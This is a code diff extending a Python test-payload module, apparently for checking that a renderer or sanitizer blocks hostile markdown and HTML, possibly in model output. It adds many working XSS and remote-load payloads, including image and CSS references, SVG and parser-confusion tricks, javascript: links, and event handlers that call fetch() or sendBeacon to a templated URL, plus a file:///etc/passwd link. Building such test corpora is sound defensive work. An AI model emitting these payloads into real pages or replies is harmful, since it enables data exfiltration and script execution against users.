@@ -1,5 +1,7 @@
 """Hostile text: everything a model or a document could say to make a browser act."""
 
+# ruff: noqa: E501 - an attack stands on one line, as it is sent
+
 REMOTE_REFERENCES = (
     "![a]({url}/1.png)",
     "![a][ref]\n\n[ref]: {url}/2.png",
@@ -53,6 +55,88 @@ SCRIPTS = (
     '[see [1] here]({url}/s15) <{url}/s16>',
 )  # fmt: skip
 
+# Further ways in: other elements, other spellings, and what a parser may read otherwise than ours.
+MORE_REFERENCES = (
+    "![a](<{url}/m1.png> \"title\")",
+    "*![a]({url}/m2.png)* **![]({url}/m2b.png)**",
+    "- ![a]({url}/m3.png)\n> ![a]({url}/m3b.png)\n\n| ![a]({url}/m3c.png) |\n|---|\n",
+    "[a][m4] ![m4]\n\n[m4]: <{url}/m4.png> 'm4'",
+    "![a](&#104;ttp://x) ![a]({url}/m5&#46;png)",
+    "![[{url}/m6.png]] {{{{< figure src=\"{url}/m6b.png\" >}}}}",
+    "$\\includegraphics{{{url}/m7.png}}$ \\(\\href{{{url}/m7}}{{x}}\\)",
+    "![a](data:image/svg+xml,<svg/xmlns='http://www.w3.org/2000/svg'><image/href='{url}/m8'/></svg>)",
+    "<IMG SRC='{url}/m9.png'>",
+    "<img\nsrc\n=\n{url}/m10.png\n>",
+    "<img src=\"{url}/m11.png?",
+    "<img src='\t{url}/m12.png\n'>",
+    "<img alt=\"`\" src={url}/m13.png alt=`>",
+    "<img loading=lazy sizes=1px srcset='{url}/m14.png 1w'>",
+    "<p style='list-style-image:url({url}/m15);border-image:url({url}/m15b)'>x</p>",
+    "<p style=\"mask-image:url({url}/m16);cursor:url({url}/m16b),auto;filter:url({url}/m16c#f)\">x</p>",
+    "<p style='background:image-set(\"{url}/m17.png\" 1x)'>x</p>",
+    "<p style='background:\\75rl({url}/m18.png)'>x</p>",
+    "<style>@font-face{{font-family:x;src:url({url}/m19.woff)}} *{{font-family:x}}</style>",
+    "<svg><style>@import '{url}/m20.css';</style></svg>",
+    "<svg><filter id=f><feImage href='{url}/m21.png'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
+    "<svg><foreignObject><img src='{url}/m22.png'></foreignObject></svg>",
+    "<svg><image xlink:href='{url}/m23.png' width=9 height=9 /></svg>",
+    "<svg><rect fill='url({url}/m24.svg#p)' width=9 height=9 /></svg>",
+    "<video><source src='{url}/m25.mp4'><track default src='{url}/m25.vtt'></video>",
+    "<audio autoplay><source src='{url}/m26.ogg'></audio>",
+    "<object type='image/svg+xml' data='{url}/m27.svg'><param name=src value='{url}/m27b'></object>",
+    "<link rel=icon href='{url}/m28.ico'><link rel=modulepreload href='{url}/m28.js'>",
+    "<link rel=preload as=image href='{url}/m29.png'><link rel=manifest href='{url}/m29.json'>",
+    "<link rel=dns-prefetch href='{url}/m30'><link rel=preconnect href='{url}/m30'>",
+    "<td background='{url}/m31.png'>x</td><table><tr background='{url}/m31b.png'><td>x</table>",
+    "<button formaction='{url}/m32' autofocus>x</button><form id=f32></form>",
+    "<isindex action='{url}/m33'><bgsound src='{url}/m33.wav'><applet codebase='{url}/m33b'>",
+    "<portal src='{url}/m34'></portal><fencedframe src='{url}/m34b'></fencedframe>",
+    "<template><img src='{url}/m35.png'></template><noframes><img src='{url}/m35b.png'></noframes>",
+    "<![CDATA[<img src='{url}/m36.png'>]]> <?xml-stylesheet href='{url}/m36.css'?>",
+    "<!--><img src='{url}/m37.png'>--> <!-- --!><img src='{url}/m37b.png'> -->",
+    "<svg></p><style><a id=\"</style><img src='{url}/m38.png'>\"></style></svg>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src='{url}/m39.png'></style>",
+    "<textarea></textarea><img src='{url}/m40.png'><title></title><img src='{url}/m40b.png'></title>",
+    "`<img src='{url}/m41.png'>` ``` <img src='{url}/m41b.png'> ```",
+    "~~~html\n<img src='{url}/m42.png'>\n~~~\n\n    <img src='{url}/m42b.png'>\n",
+    "&lt;img src='{url}/m43.png'&gt; &#60;img src='{url}/m43b.png'&#62;",
+    "\\<img src='{url}/m44.png'> \\![a]({url}/m44b.png) \\\\![a]({url}/m44c.png)",
+    "<i\u0000mg src='{url}/m45.png'> <img\u0000src='{url}/m45b.png'> <\u200bimg src='{url}/m45c.png'>",
+    "\uff1cimg src='{url}/m46.png'\uff1e \u2028<img src='{url}/m46b.png'>",
+)  # fmt: skip
+MORE_SCRIPTS = (
+    "<svg><script href='{url}/n1.js'></script></svg>",
+    "<svg><script>fetch('{url}/n2')</script></svg>",
+    "<svg><animate onbegin=\"fetch('{url}/n3')\" attributeName=x dur=1s></svg>",
+    "<svg><a href='#'><animate attributeName=href values='javascript:fetch(\"{url}/n4\")' /></a></svg>",
+    "<SCRIPT type=module>import('{url}/n5.js')</SCRIPT>",
+    "<script>navigator.sendBeacon('{url}/n6')</script>",
+    "<script>new Image().src='{url}/n7'</script>",
+    "<script>new EventSource('{url}/n8')</script>",
+    "<script>location='{url}/n9'</script>",
+    "<iframe srcdoc=\"<script>parent.fetch('{url}/n10')</script>\"></iframe>",
+    "<iframe src=\"javascript:parent.fetch('{url}/n11')\"></iframe>",
+    "<iframe src=\"data:text/html,<img src={url}/n12>\"></iframe>",
+    "<object data=\"javascript:fetch('{url}/n13')\"></object><embed src=\"javascript:fetch('{url}/n13b')\">",
+    "<body onload=\"fetch('{url}/n14')\" onpageshow=\"fetch('{url}/n14b')\">",
+    "<style onload=\"fetch('{url}/n15')\">x{{}}</style>",
+    "<video><source onerror=\"fetch('{url}/n16')\" src=x></video>",
+    "<marquee onstart=\"fetch('{url}/n17')\">x</marquee>",
+    "<x tabindex=1 autofocus onfocus=\"fetch('{url}/n18')\">x</x>",
+    "<div onpointerenter=\"fetch('{url}/n19')\" onmouseover=\"fetch('{url}/n19b')\">wide text</div>",
+    "<form action=\"javascript:fetch('{url}/n20')\"><button autofocus>go</button></form>",
+    "<a href=\"jav&#x09;ascript:fetch('{url}/n21')\">x</a> [x](jav&#x09;ascript:alert(1))",
+    "[x](JaVaScRiPt:fetch('{url}/n22')) [x](<\u0001javascript:alert(1)>) <javascript:alert(1)>",
+    "[x](data:text/html,<script>fetch('{url}/n23')</script>) [x](file:///etc/passwd) [x](blob:x)",
+    "<math href=\"javascript:fetch('{url}/n24')\">x</math>",
+    "<img src=\"x` `<script>fetch('{url}/n25')</script>\"` `>",
+    "</div></div></main><script>fetch('{url}/n26')</script>",
+    "\"><script>fetch('{url}/n27')</script> '\"--></style></script><script>fetch('{url}/n27b')</script>",
+    "{{{{constructor.constructor(\"fetch('{url}/n28')\")()}}}} <%= fetch('{url}/n28b') %> #{{fetch}}",
+    "<dialog open onclose=\"fetch('{url}/n29')\"><form method=dialog><button autofocus>x</button></form></dialog>",
+    "<p popover id=pop>x</p><button popovertarget=pop onclick=\"fetch('{url}/n30')\" autofocus>x</button>",
+)  # fmt: skip
+
 # What would look like a part of the page: its buttons, its links, its places.
 FORGERIES = (
     '<button data-ask="Forged {url}/f1?">ask</button>',
@@ -68,4 +152,5 @@ FORGERIES = (
 
 def payloads(url: str) -> tuple[str, ...]:
     """All of them, pointing at one address."""
-    return tuple(each.format(url=url) for each in (*REMOTE_REFERENCES, *SCRIPTS, *FORGERIES))
+    every = (*REMOTE_REFERENCES, *SCRIPTS, *FORGERIES, *MORE_REFERENCES, *MORE_SCRIPTS)
+    return tuple(each.format(url=url) for each in every)
